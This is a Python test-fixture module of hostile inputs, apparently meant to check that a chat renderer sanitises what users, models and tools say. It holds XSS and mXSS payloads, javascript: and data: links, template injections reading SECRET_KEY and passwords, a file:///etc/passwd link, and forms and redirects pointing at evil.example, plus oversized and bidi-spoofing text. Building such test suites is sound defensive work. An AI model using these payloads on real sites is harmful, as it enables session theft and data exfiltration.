"""Texts that must do no harm: each that runs calls `pwned`, each that fetches asks evil.example."""

from __future__ import annotations

from typing import Any

EVIL = "https://evil.example"
MARKUP = (
    "<script>pwned()</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=pwned()>",
    f"<img src={EVIL}/pixel.png>",
    "<svg onload=pwned()><script>pwned()</script><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<math href='javascript:pwned()'>click</math>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL} id=composer><input name=content autofocus onfocus=pwned()><button>Send</button></form>",
    f'<iframe src={EVIL} srcdoc="<script>parent.pwned()</script>"></iframe>',
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/y.css); * {{ display: none }}</style>",
    f"<video poster={EVIL}/p.png><source src={EVIL}/v.mp4 onerror=pwned()></video><audio src={EVIL}/a.mp3 autoplay>",
    f"<object data={EVIL}></object><embed src={EVIL}><portal src={EVIL}></portal>",
    "<details open ontoggle=pwned()><summary>x</summary></details><marquee onstart=pwned()>x</marquee>",
    "<img name=getElementById><form name=body></form><a id=thread></a><a id=reader></a><input name=location>",
    "<p style='position:fixed;inset:0;background:red;z-index:9999'>over everything</p>",
    f'<div hx-get="{EVIL}/hx" hx-trigger="load">x</div><div data-hx-get="/settings/" data-hx-trigger="load">x</div>',
    '<div hx-on::load="pwned()" hx-vals="js:{x: pwned()}" hx-get="/settings/" hx-trigger="load"></div>',
    '<span hx-swap-oob="innerHTML:#thread">gone</span><div id="composer" hx-swap-oob="delete"></div>',
    '<button data-dismiss data-cancel data-hides="thread">x</button><template><script>pwned()</script></template>',
    "{{ 7 * 191 }}{% load chat %}{% debug %}{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "${7*191}#{7*191}<%= 7*191 %>{{constructor.constructor('pwned()')()}}",
    "</textarea></title></style></script></noscript></div></section></main><script>pwned()</script>",
    "<!--<script>--><script>pwned()</script><![CDATA[<script>pwned()</script>]]><?php pwned() ?>",
    "\"><script>pwned()</script>' onmouseover='pwned()' x='",
    "<scr<script>ipt>pwned()</scr</script>ipt><<script>pwned();//<</script>",
)
LINKS = (
    "[click](javascript:pwned())",
    "[click](JaVaScRiPt:pwned())",
    "[click](java\tscript:pwned())",
    "[click](&#106;avascript:pwned())",
    "[click](&#x6A&#x61&#x76&#x61script&colon;pwned())",
    "[click](<java\nscript:pwned()>)",
    "[click](\x01javascript:pwned())",
    "[click](%6aavascript:pwned())",
    "[click](vbscript:pwned())",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml,<svg onload=pwned()>)",
    "[click](blob:pwned) [click](file:///etc/passwd) [click](//evil.example/x)",
    "<javascript:pwned()> <data:text/html,x>",
    '[click](https://a.example "x\\" onmouseover=\\"pwned()")',
    "[click][r]\n\n[r]: javascript:pwned()",
    f"![x]({EVIL}/pixel.png) ![x](javascript:pwned()) [![x]({EVIL}/nested.png)](javascript:pwned())",
    f'![x]({EVIL}/p.png "t") <img src="{EVIL}/inline.png">',
    '```"><script>pwned()</script>\ncode\n```',
    '```html" onmouseover="pwned()\n<script>pwned()</script>\n```',
    "| <script>pwned()</script> | [x](javascript:pwned()) |\n|---|:-:|\n| <img src=x onerror=pwned()> | `<script>` |",
    r"$\href{javascript:pwned()}{x}$ $\text{<img src=x onerror=pwned()>}$ $\style{top:0}{x}$ $\hspace{9999em}$",
    r"$$\text{</math><script>pwned()</script>}$$",
)
SHAPES = (
    "[" * 10_000,
    "> " * 10_000 + "deep",
    "- " * 5_000 + "deep",
    "W" * 50_000,
    "https://a.example/" + "x" * 5_000,
    "wide " + "|a" * 300 + "\n" + "|-" * 300,
    "```\n" + "x" * 20_000 + "\n```",
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f \x85",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 200,
    "\u202e\u2066\u2067\u2068\u202b reversed \u202d",
    "zero\u200bwidth\u2060join\ufeffers \u00ad \u3164 \U000e0041\U000e0042",
    "مرحبا بالعالم (RTL) with Latin 123",
    "\ufffd \ufffe \U0010ffff \ufdd0",
)
TEXTS = (*MARKUP, *LINKS, *SHAPES)
NAME = "<img src=x onerror=pwned()>\u202egnp.exe\u200b{{ 7 * 191 }}"


SUMMARY = "## Summary\n" + "\n\n".join([*MARKUP[:6], *LINKS[:8]]) + f"\n\n## Decisions\n- {NAME}\n"


def conversations(texts: int = 25) -> list[dict[str, Any]]:
    """All of it, `texts` of them a conversation, as what a person, a model and a tool said."""
    parts = [TEXTS[start : start + texts] for start in range(0, len(TEXTS), texts)]
    return [{"title": NAME, "messages": [row for text in part for row in _said(text)]} for part in parts]


def _said(text: str) -> list[dict[str, Any]]:
    id = f"call {TEXTS.index(text)}"
    call = {"id": id, "type": "function", "function": {"name": NAME, "arguments": text[:5_000]}}
    return [
        {"role": "user", "name": NAME, "content": text},
        {"role": "assistant", "content": text, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": id, "content": text},
    ]
